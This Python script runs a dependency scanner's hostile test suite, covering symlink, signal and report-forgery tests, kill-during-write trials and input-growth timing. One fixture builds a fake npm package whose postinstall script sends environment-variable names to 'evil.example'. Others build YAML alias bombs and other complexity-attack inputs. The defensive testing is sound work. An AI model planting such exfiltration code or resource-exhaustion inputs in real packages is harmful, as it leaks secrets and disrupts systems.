#!/usr/bin/env python3
"""Run the whole hostile suite and print what held.

    python scripts/hostile-suite.py            # everything (about two minutes on two busy cores)
    python scripts/hostile-suite.py --quick    # the pytest part only

Three parts:

1. ``tests/hostile`` under pytest, one line per class of attack: planted symlinks (an ``.npmrc``,
   ``/proc/self/environ``, a private key, ``/dev/zero``), names that are not UTF-8, parse errors
   that must not quote a file, forged reports (controls, bidi, invisible characters, Markdown
   links, table breaks), report writes (disk full through a small RLIMIT_FSIZE, symlinked
   targets, ``auto``), signals (SIGTERM/SIGINT during a parallel scan), bounded work (globs,
   YAML alias bombs), rule ids.
2. Live trials the test suite cannot afford: a scan writing a large JSON report is killed with
   SIGKILL and SIGTERM at spread-out moments; after each, the report is either absent or whole
   (valid JSON), and after SIGTERM no temporary file is left (SIGKILL cannot clean up: any
   ``.*.tmp`` it leaves is counted and shown, the report itself is never partial).
3. Growth (decision 0116): one file an attacker controls, written at 100,000 and 1,000,000
   characters (workspace globs, ``**/**/...``, yarn headers, semver ``||`` and hyphen ranges,
   js-yaml numbers, YAML aliases, a package's white space under ``-heuristic``...); the scan
   of the larger may take at most 15 times the smaller's wall time plus a second (linear is
   10 times; quadratic would be 100) and must end (60 s).

Exit status 0 when everything held, 1 otherwise. Needs Linux (``/proc``, ``RLIMIT_FSIZE``).
"""

from __future__ import annotations

import argparse
import json
import os
import signal
import subprocess
import sys
import tempfile
import time
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
GROUPS = {
    "test_symlinks_and_names": "planted symlinks, non-UTF-8 names (CLI, every format)",
    "test_no_echo": "parse errors never quote the file (secrets generated per run)",
    "test_render_hostile": "reports cannot be forged (property tests on every renderer)",
    "test_report_writes": "report writes: disk full (RLIMIT_FSIZE), symlinks, auto, stops",
    "test_signals": "SIGTERM / SIGINT during a parallel scan",
    "test_bounded": "bounded work: globs, YAML alias bombs, limits, ratios of sizes (0116)",
    "test_rule_ids": "rule ids and titles, --id as a file name",
    "test_input_readers": "every input reader fed garbage: no traceback, no planted bytes echoed",
    "test_yaml_line_breaks": "characters YAML readers disagree on (NEL, LS, PS, BOM) refused",
    "test_long_specs": "a spec too long to read is an error, never copied into a report",
    "test_attacker_view": "lockfiles the tools install as another release (tool-made, 0075)",
    "test_modes_red_team": "-image links, -git FIFOs and dates, long keys (0085)",
    "test_tarball_members": "tarball manifests the tools read apart; aliases read once (0092)",
    "test_archive_budgets": "gzip and zip bombs: 200 times their size, a budget per scan (0094)",
    "test_yarn1_parser": "yarn.lock files yarn 1's own parser reads otherwise (0099)",
    "test_caches_red_team": "cache folders an attacker controls: berry zips, content-v2 (0101)",
    "test_one_mechanism": "every print escaped, every input opened by fs.read: FIFOs (0154)",
    "test_free_bytes": "runs of one byte (sparse, git-packed) cost what real content does (0161)",
    "test_unread_clones": "-git -recursive: a .git that cannot be read is an error (0154)",
    "test_heuristic_budget": "-heuristic: a byte budget per package, payloads read first (0158)",
    "test_heuristic_scan_budget": "-heuristic: a byte budget per scan, install files first (0162)",
    "test_chosen_inputs": "feeds, reports, ignore files linked into /proc: refused unread (0161)",
}


def run_pytest() -> bool:
    with tempfile.TemporaryDirectory() as tmp:
        xml_path = Path(tmp) / "junit.xml"
        env = {**os.environ, "CI": "1"}  # derandomised Hypothesis examples
        started = time.perf_counter()
        subprocess.run(
            [
                sys.executable,
                "-m",
                "pytest",
                "tests/hostile",
                "-q",
                "-p",
                "no:cacheprovider",
                f"--junitxml={xml_path}",
            ],
            cwd=ROOT,
            env=env,
            check=False,
            stdout=subprocess.DEVNULL,
        )
        elapsed = time.perf_counter() - started
        tree = ET.parse(xml_path)
    results: dict[str, list[tuple[str, bool]]] = {}
    for case in tree.iter("testcase"):
        module = case.get("classname", "").rsplit(".", 1)[-1]
        ok = not any(child.tag in ("failure", "error") for child in case)
        if any(child.tag == "skipped" for child in case):
            continue
        results.setdefault(module, []).append((case.get("name", "?"), ok))
    print(f"== pytest tests/hostile ({elapsed:.0f} s)")
    all_ok = True
    # (a module of tests/hostile not named above is shown by its name, never left out)
    labels = {**GROUPS, **{m: m for m in sorted(results) if m not in GROUPS}}
    for module, label in labels.items():
        cases = results.get(module, [])
        passed = sum(ok for _, ok in cases)
        state = "ok  " if cases and passed == len(cases) else "FAIL"
        all_ok &= state == "ok  "
        print(f"  {state} {passed:3d}/{len(cases):<3d} {label}")
        for name, ok in cases:
            if not ok:
                print(f"         failed: {name}")
    return all_ok


def _big_project(root: Path) -> None:
    rule = {
        "schema_version": "1.0.0",
        "rules": [
            {
                "id": "SUITE-1",
                "title": "Suite",
                "kind": "compromised-release",
                "ecosystem": "npm",
                "severity": "high",
                "package_rules": [{"package_name": "evil", "affected_versions": ["1.0.0"]}],
            }
        ],
    }
    names = [f"evil{i}" for i in range(1500)]
    rule["rules"][0]["package_rules"] = [  # type: ignore[index]
        {"package_name": name, "affected_versions": ["1.0.0"]} for name in names
    ]
    (root / "rule.json").write_text(json.dumps(rule))
    packages: dict[str, object] = {"": {"name": "p"}}
    for name in names:
        packages[f"node_modules/{name}"] = {"version": "1.0.0"}
    lock = {"name": "p", "lockfileVersion": 3, "packages": packages}
    for n in range(12):
        folder = root / "repo" / f"p{n}"
        folder.mkdir(parents=True)
        (folder / "package-lock.json").write_text(json.dumps(lock))


def live_kills() -> bool:
    """SIGKILL / SIGTERM at spread-out moments of a scan that writes a big JSON report."""
    print("== live: kill a scan while it writes a report")
    all_ok = True
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        _big_project(root)
        cmd = [
            sys.executable, "-m", "gouvernante", "-rules", "rule.json", "-dir", "repo",
            "-recursive", "-output", "out/report.json", "-workers", "2",
        ]  # fmt: skip
        started = time.perf_counter()
        subprocess.run(cmd, cwd=root, check=False, capture_output=True)
        full = time.perf_counter() - started
        size = (root / "out" / "report.json").stat().st_size if (root / "out").exists() else 0
        if not size:
            (root / "out").mkdir(exist_ok=True)
            subprocess.run(cmd, cwd=root, check=False, capture_output=True)
            size = (root / "out" / "report.json").stat().st_size
        print(f"  a full run takes {full:.1f} s and writes a {size // 1024} KiB report")
        for sig in (signal.SIGKILL, signal.SIGTERM):
            whole = absent = leftovers = bad = 0
            for k in range(8):
                out = root / "out"
                for p in out.iterdir():
                    p.unlink()
                proc = subprocess.Popen(
                    cmd, cwd=root, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE
                )
                time.sleep(full * (0.55 + 0.07 * k))
                proc.send_signal(sig)
                proc.wait(timeout=60)
                report = out / "report.json"
                if report.exists():
                    try:
                        json.loads(report.read_bytes())
                        whole += 1
                    except ValueError:
                        bad += 1
                else:
                    absent += 1
                leftovers += sum(1 for p in out.iterdir() if p.name.endswith(".tmp"))
            ok = bad == 0 and (sig == signal.SIGKILL or leftovers == 0)
            all_ok &= ok
            print(
                f"  {'ok  ' if ok else 'FAIL'} {sig.name}: 8 runs, {whole} whole report(s),"
                f" {absent} absent, {bad} partial, {leftovers} temporary file(s) left"
            )
    return all_ok


_GROWTH_RULE = {
    "schema_version": "1.0.0",
    "rules": [
        {
            "id": "GROWTH-1",
            "title": "Growth",
            "kind": "compromised-release",
            "ecosystem": "npm",
            "severity": "high",
            "package_rules": [{"package_name": "evil", "affected_versions": ["1.0.0"]}],
        }
    ],
}
_DECLARED = json.dumps({"name": "p", "dependencies": {"evil": "1.0.0"}})
_PNPM_TAIL = (
    "importers:\n  .:\n    dependencies:\n      evil:\n        specifier: 1.0.0\n"
    "        version: 1.0.0\n\npackages:\n\n  evil@1.0.0:\n    resolution: {integrity: sha512-x}\n"
    "\nsnapshots:\n\n  evil@1.0.0: {}\n"
)
_BERRY_HEAD = (
    '__metadata:\n  version: 8\n  cacheKey: 10c0\n\n"p@workspace:.":\n  version: 0.0.0-use.local\n'
    '  resolution: "p@workspace:."\n  dependencies:\n    evil: "npm:^1.0.0"\n'
    "  languageName: unknown\n  linkType: soft\n\n"
)
_BERRY_ENTRY = (
    '  version: 1.0.0\n  resolution: "evil@npm:1.0.0"\n  checksum: 10c0/abc\n'
    "  languageName: node\n  linkType: hard\n"
)


def _manifest(**fields: object) -> str:
    return json.dumps({"name": "p", "dependencies": {"evil": "1.0.0"}, **fields})


# shape -> (files of the project for a size in characters, extra arguments)
GROWTH: dict[str, tuple[Callable[[int], dict[str, str]], list[str]]] = {
    "package.json workspaces, '*/xN' globs, 200 members": (
        lambda n: {
            "package.json": _manifest(workspaces=[f"*/x{i}" for i in range(n // 8)]),
            **{f"m/p{i}/package.json": "{}" for i in range(200)},
        },
        [],
    ),
    "package.json workspaces, listed paths": (
        lambda n: {"package.json": _manifest(workspaces=[f"m/p{i}" for i in range(n // 10)])},
        [],
    ),
    "package.json workspaces, one '**/**/...' glob": (
        lambda n: {"package.json": _manifest(workspaces=["**/" * (n // 3) + "x"])},
        [],
    ),
    "pnpm-workspace.yaml packages, 'pN/**' globs": (
        lambda n: {
            "pnpm-workspace.yaml": "packages:\n"
            + "".join(f"  - p{i}/**\n" for i in range(n // 12)),
            "package.json": _DECLARED,
        },
        [],
    ),
    "pnpm-workspace.yaml catalog value 0xCC...G": (
        lambda n: {
            "pnpm-workspace.yaml": f"catalog:\n  evil: 0x{'C' * n}G\n",
            "package.json": _DECLARED,
        },
        [],
    ),
    "pnpm-workspace.yaml anchors and aliases": (
        lambda n: {
            "pnpm-workspace.yaml": "catalog: &a\n"
            + "".join(f"  d{i}: ^1.0.0\n" for i in range(n // 32))
            + "catalogs:\n"
            + "".join(f"  c{i}: *a\n" for i in range(n // 32)),
            "package.json": _DECLARED,
        },
        [],
    ),
    "pnpm-lock.yaml anchors and aliases": (
        lambda n: {
            "pnpm-lock.yaml": "lockfileVersion: '9.0'\nx: &a ["
            + ",".join(["1"] * (n // 4))
            + "]\ny: ["
            + ",".join(["*a"] * (n // 4))
            + "]\n"
            + _PNPM_TAIL
        },
        [],
    ),
    "pnpm-lock.yaml version with (peer) suffixes": (
        lambda n: {
            "pnpm-lock.yaml": "lockfileVersion: '9.0'\n\n"
            + _PNPM_TAIL.replace("version: 1.0.0", "version: 1.0.0" + "(a@1)" * (n // 5))
        },
        [],
    ),
    "yarn.lock (berry) key with a run of spaces": (
        lambda n: {
            "yarn.lock": _BERRY_HEAD
            + '"evil@npm:^1.0.0, evil@npm:^1.0.0'
            + " " * n
            + 'x":\n'
            + _BERRY_ENTRY
        },
        [],
    ),
    "yarn.lock (classic) entry with N descriptors": (
        lambda n: {
            "yarn.lock": "# yarn lockfile v1\n\n\n"
            + ", ".join(f"evil@^1.0.{i}" for i in range(n // 16))
            + ':\n  version "1.0.0"\n  resolved "https://registry.yarnpkg.com/evil/-/evil-1.0.0.tgz"\n'
        },
        [],
    ),
    "yarn.lock (classic) one line of NUL bytes (0161)": (
        lambda n: {"yarn.lock": "\x00" * n, "package.json": _DECLARED},
        [],
    ),
    "yarn.lock (classic) an entry, then one line of 'a' (0161)": (
        lambda n: {
            "yarn.lock": '# yarn lockfile v1\n\n\nevil@1.0.0:\n  version "1.0.0"\n\n' + "a" * n,
            "package.json": _DECLARED,
        },
        [],
    ),
    "yarn.lock (classic) header of N 'evil@1' (0161)": (
        lambda n: {
            "yarn.lock": "# yarn lockfile v1\n\n\n"
            + ", ".join(["evil@1.0.0"] * (n // 12))
            + ':\n  version "1.0.0"\n'
        },
        [],
    ),
    "yarn.lock (berry) blank lines after __metadata (0161)": (
        lambda n: {"yarn.lock": _BERRY_HEAD + "\n" * n + '"evil@npm:^1.0.0":\n' + _BERRY_ENTRY},
        [],
    ),
    "package-lock.json key with a node_modules/ chain (0161)": (
        lambda n: {
            "package-lock.json": json.dumps(
                {
                    "name": "p",
                    "lockfileVersion": 3,
                    "packages": {
                        "": {"name": "p", "dependencies": {"evil": "1.0.0"}},
                        "node_modules/evil": {"version": "1.0.0"},
                        "node_modules/evil" + "/node_modules/x" * (n // 15): {"version": "1.0.0"},
                    },
                }
            )
        },
        [],
    ),
    "pnpm-lock.yaml version with nested (p@1(p@1(...))) peers (0161)": (
        lambda n: {
            "pnpm-lock.yaml": "lockfileVersion: '9.0'\n\n"
            + _PNPM_TAIL.replace(
                "version: 1.0.0", "version: 1.0.0" + "(a@1" * (n // 8) + ")" * (n // 8)
            )
        },
        [],
    ),
    "bun.lock a package array of N strings (0161)": (
        lambda n: {
            "bun.lock": json.dumps(
                {
                    "lockfileVersion": 1,
                    "workspaces": {"": {"name": "p", "dependencies": {"evil": "1.0.0"}}},
                    "packages": {"evil": ["evil@1.0.0", "", {}, "sha512-x", *(["x"] * (n // 4))]},
                }
            )
        },
        [],
    ),
    "package.json range '1 || 1 || ...'": (
        lambda n: {
            "package.json": json.dumps({"dependencies": {"evil": " || ".join(["1"] * (n // 5))}})
        },
        [],
    ),
    "package.json range '1.0.0 - 1.0.0 - ...'": (
        lambda n: {
            "package.json": json.dumps({"dependencies": {"evil": " - ".join(["1.0.0"] * (n // 8))}})
        },
        [],
    ),
    ".yarnrc.yml anchors and aliases": (
        lambda n: {
            ".yarnrc.yml": "x: &a ["
            + ",".join(["1"] * (n // 8))
            + "]\ny: ["
            + ",".join(["*a"] * (n // 8))
            + "]\n",
            "package.json": _DECLARED,
        },
        [],
    ),
    "-heuristic: a package's 'Object.keys(process.env).find(' and spaces": (
        lambda n: {
            "package.json": json.dumps({"name": "p", "dependencies": {"x": "1.0.0"}}),
            "node_modules/x/package.json": json.dumps(
                {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node index.js"}}
            ),
            "node_modules/x/index.js": 'const h = require("https");\n'
            "const k = Object.keys(process.env).find(" + " " * n + ")\n"
            'h.request({hostname: "evil.example"}).end(JSON.stringify(k));\n',
        },
        ["-heuristic"],
    ),
}


def _timed_scan(root: Path, files: dict[str, str], extra: list[str]) -> tuple[float, int | str]:
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    cmd = [
        sys.executable, "-m", "gouvernante", "-rules", str(root.parent / "rule.json"),
        "-dir", str(root), *extra,
    ]  # fmt: skip
    started = time.perf_counter()
    try:
        code: int | str = subprocess.run(
            cmd, check=False, capture_output=True, timeout=60
        ).returncode
    except subprocess.TimeoutExpired:
        code = "timed out"
    return time.perf_counter() - started, code


def growth() -> bool:
    """Each shape at 100,000 and 1,000,000 characters: linear (a ratio of the two, same run)."""
    print("== growth: one hostile file at 100,000 and 1,000,000 characters (wall time)")
    all_ok = True
    with tempfile.TemporaryDirectory() as tmp:
        (Path(tmp) / "rule.json").write_text(json.dumps(_GROWTH_RULE))
        for number, (label, (make, extra)) in enumerate(GROWTH.items()):
            small, small_code = _timed_scan(Path(tmp) / f"s{number}", make(100_000), extra)
            large, large_code = _timed_scan(Path(tmp) / f"l{number}", make(1_000_000), extra)
            ok = large_code != "timed out" and large <= 15 * small + 1.0
            all_ok &= ok
            print(
                f"  {'ok  ' if ok else 'FAIL'} {small:5.2f} s -> {large:5.2f} s"
                f" (exit {small_code}, {large_code}) {label}"
            )
    return all_ok


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--quick", action="store_true", help="the pytest part only")
    args = parser.parse_args()
    if not sys.platform.startswith("linux"):
        print("the hostile suite needs Linux (/proc, RLIMIT_FSIZE)", file=sys.stderr)
        return 1
    ok = run_pytest()
    if not args.quick:
        ok &= live_kills()
        ok &= growth()
    print("ALL HELD" if ok else "SOMETHING DID NOT HOLD")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
